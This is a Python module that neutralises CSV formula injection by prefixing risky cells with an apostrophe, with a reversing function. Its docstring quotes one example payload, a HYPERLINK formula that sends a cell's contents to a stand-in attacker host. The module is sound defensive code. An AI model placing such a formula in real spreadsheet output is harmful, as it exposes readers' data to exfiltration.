"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV / formula injection).

A spreadsheet that opens a CSV evaluates a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or a carriage return) as a formula: a model's answer or a judge's rationale such
as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run on the reader's machine. Every
CSV writer in nbeval passes its cells through :func:`csv_safe`, which prefixes such a string with
one apostrophe ``'`` (the usual way to tell a spreadsheet "this is text").

Only strings are touched: a number such as ``-0.5`` stays a number. The prefix is reversible, so
a reader can give back exactly what was written: :func:`csv_unsafe` removes it. To keep that
true for a string that already begins with apostrophes before such a character (``'=x``), that
string gets one more apostrophe too (``''=x``).
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_STARTS", "csv_safe", "csv_unsafe"]

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_prefix(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def csv_safe(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not run as a formula.

    A string beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (after any
    apostrophes) gets an apostrophe ``'`` in front. Anything that is not a string (numbers,
    ``None``) is returned unchanged.
    """
    if isinstance(value, str) and _needs_prefix(value):
        return "'" + value
    return value


def csv_unsafe(value: Any) -> Any:
    """The inverse of :func:`csv_safe`: the cell as it was before it was written."""
    if isinstance(value, str) and value.startswith("'") and _needs_prefix(value):
        return value[1:]
    return value
